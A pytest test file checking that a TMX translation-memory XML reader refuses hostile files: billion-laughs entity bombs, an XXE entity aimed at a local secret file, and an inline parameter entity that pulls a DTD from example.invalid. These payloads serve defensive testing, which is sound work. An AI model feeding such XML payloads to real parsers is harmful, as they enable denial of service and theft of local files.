"""Hostile files: entities are never expanded, nothing outside the file is ever read."""
from __future__ import annotations

import pytest

from tmx.errors import TMXError
from tmx.reader import iter_units
from tmx.validate import validate_file


@pytest.mark.parametrize("check", [lambda p: list(iter_units(p)), validate_file])
def test_billion_laughs_is_refused_before_any_expansion(fixtures, check):
    # refused from its prolog, before libxml2 reads the declarations (since 2.14 it stops such
    # a file itself, with a message of its own): the refusal names the file and the entities
    path = fixtures / "billion-laughs.tmx"
    with pytest.raises(TMXError) as caught:
        check(path)
    error = caught.value
    assert (error.path, error.line) == (str(path), 1)
    assert "(lol, lol1, lol2, lol3, lol4)" in error.message     # ours, not the parser's
    assert "lollol" not in str(error)                           # nothing expanded


@pytest.mark.parametrize("check", [lambda p: list(iter_units(p)), validate_file])
def test_xxe_never_reads_the_local_file(fixtures, tmp_path, check):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-MARKER", encoding="utf-8")
    attack = tmp_path / "xxe.tmx"
    attack.write_text((fixtures / "xxe.tmx").read_text(encoding="utf-8")
                      .replace("/MARKER_PATH", str(secret)), encoding="utf-8")
    with pytest.raises(TMXError) as caught:
        check(attack)
    assert "TOP-SECRET-MARKER" not in str(caught.value)
    assert "declares entities (secret)" in str(caught.value)


def test_parameter_entities_are_refused_too(tmp_path):
    attack = tmp_path / "pe.tmx"
    attack.write_text('<?xml version="1.0"?>\n<!DOCTYPE tmx [<!ENTITY % remote SYSTEM '
                      '"http://example.invalid/evil.dtd"> %remote;]>\n<tmx version="1.4">'
                      '<header/><body/></tmx>', encoding="utf-8")
    with pytest.raises(TMXError, match=r"declares entities \(remote\)"):
        list(iter_units(attack))


def test_an_external_dtd_reference_is_not_fetched(fixtures):
    # the fixture's DOCTYPE names http://example.invalid/tmx11.dtd: reading must not need it
    assert len(list(iter_units(fixtures / "lang-attribute.tmx"))) == 2
